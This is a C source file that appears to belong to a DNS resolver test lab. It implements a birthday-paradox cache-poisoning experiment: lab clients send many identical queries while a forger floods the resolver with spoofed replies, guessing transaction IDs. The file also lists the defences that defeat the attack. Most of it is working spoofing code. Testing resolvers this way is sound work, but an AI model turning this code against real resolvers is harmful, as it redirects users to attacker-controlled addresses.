/* birthday: many equal queries, so that a guess can hit any of them (Stewart, 2002).
 *
 * A forged reply must have the ID of the resolver's query: one chance in 65,536.  If a resolver
 * sends a query again for each client that asks, the attacker asks for one name 100 times, and
 * a guess may match any of 100 IDs: the chance is 100 times as good.  It is the paradox of the
 * birthdays: in a class of 23, two have the same. */
#include <sys/socket.h>
#include <unistd.h>

#include "base/now.h"
#include "dns/query.h"
#include "tools/lab/experiment.h"

enum {
    BIRTHDAY_EQUAL = 50, /* queries of each client in a race */
    BIRTHDAY_RACES_MAX = 25,
    BIRTHDAY_WINDOW_US = 25000, /* the bank's reply takes about 32 ms */
    BIRTHDAY_QUIET_MS = 300,
};

/* Lifetime: the run. */
struct birthday {
    struct trial *t;
    int forger, ear;
    uint16_t port; /* from which the resolver's queries leave, as far as is known */
    unsigned races, sent;
    uint64_t guesses;
};

/* Forge replies for as long as the bank's own is under way. */
static void send_guesses(struct birthday *b, const char *name)
{
    static struct trial_message m;
    const struct addr from = trial_addr("bank", 53), to = trial_addr("resolver", b->port);
    uint8_t qname[DNAME_MAX];
    const uint64_t end_us = now_mono_us() + BIRTHDAY_WINDOW_US;

    trial_name(name, qname);
    trial_begin(&m, 0, MESSAGE_QR | MESSAGE_AA, qname, RRTYPE_A);
    trial_record_a(&m, MESSAGE_ANSWER, name, 3600, "192.0.2.66");
    b->guesses += trial_guess_ids(b->t, b->forger, &from, &to, m.wire, m.len, end_us);
}

/* Ask for one name many times, from one socket. */
static int ask_equal(struct trial *t, const char *host, const char *name)
{
    const struct addr any = trial_addr(host, 0), resolver = trial_addr("resolver", 53);
    int fd = trial_open(t, host, &any, SOCK_DGRAM);
    uint8_t qname[DNAME_MAX], wire[QUERY_MAX];

    trial_name(name, qname);
    for (uint16_t i = 0; i < BIRTHDAY_EQUAL; i++) {
        const struct query query = {
            .id = i, .flags = MESSAGE_RD, .name = qname, .type = RRTYPE_A};
        const size_t len = query_write(&query, wire);
        (void)sendto(fd, wire, len, 0, &resolver.sock.any, addr_len(&resolver));
    }
    return fd;
}

/* Read the replies, and return whether one leads to the attacker. */
static bool read_equal(int fd)
{
    uint8_t wire[1232];
    bool has_won = false;

    for (size_t i = 0; i < BIRTHDAY_EQUAL && trial_wait(fd, BIRTHDAY_QUIET_MS); i++) {
        const ssize_t len = recv(fd, wire, sizeof(wire), 0);
        struct trial_reply reply = trial_read_reply(wire, len > 0 ? (size_t)len : 0);
        has_won |= strcmp(reply.address, "192.0.2.66") == 0;
    }
    close(fd);
    return has_won;
}

/* Return whether a client was sent to the attacker. */
static bool run_birthday_race(struct birthday *b, const char *name)
{
    int alice = ask_equal(b->t, "alice", name), bob = ask_equal(b->t, "bob", name);

    send_guesses(b, name);
    const bool alice_lost = read_equal(alice), bob_lost = read_equal(bob),
               has_won = alice_lost || bob_lost;
    const unsigned sent = trial_count_queries(b->ear);
    trial_tell(b->t, "%s: the resolver sent %u queries%s", name, sent,
               has_won ? "; a forged reply was believed" : "");
    b->sent += sent;
    b->races++;
    return has_won;
}

static void run_birthday(struct trial *t)
{
    struct birthday b = {.t = t, .ear = trial_open_ear(t, "bank")};
    char name[64];
    bool has_won = false;

    b.port = trial_learn_port(t);
    b.forger = trial_open_forger(t, "attacker");
    (void)trial_ask(t, "bob", "mail.bank.com", RRTYPE_A); /* the delegation is cached */
    (void)trial_count_queries(b.ear);
    while (!has_won && b.races < BIRTHDAY_RACES_MAX) {
        snprintf(name, sizeof(name), "login%u.bank.com", b.races);
        has_won = run_birthday_race(&b, name);
    }
    close(b.forger);
    close(b.ear);
    const double equal = (double)b.sent / b.races, per_race = (double)b.guesses / b.races;
    trial_number(t, "races", b.races);
    trial_number(t, "equal-queries", 2 * BIRTHDAY_EQUAL);
    trial_real(t, "queries-in-flight", equal);
    trial_real(t, "guesses-per-race", per_race);
    if (b.sent > 0)
        trial_real(t, "expected-races", 65536 / per_race / equal);
    if (has_won)
        trial_end(t, true, "%s is 192.0.2.66 after %u races", name, b.races);
    else
        trial_end(t, false, "no forged reply was believed in %u races", b.races);
}

const struct experiment experiment_birthday = {
    .name = "birthday",
    .what = "an off-path attacker causes equal queries, so that a guess can match any of them",
    .without = "merging,random-port,0x20,cookies,wrong-reply-tcp,dnssec",
    .stopped =
        "equal queries are merged: however many clients ask, one query leaves, and a "
        "guess has one chance; random ports, 0x20, cookies and TCP after the first wrong "
        "reply make that one hopeless",
    .counters = {"resolutions-merged", "mismatched-replies", "queries-sent-udp"},
    .run = run_birthday,
};
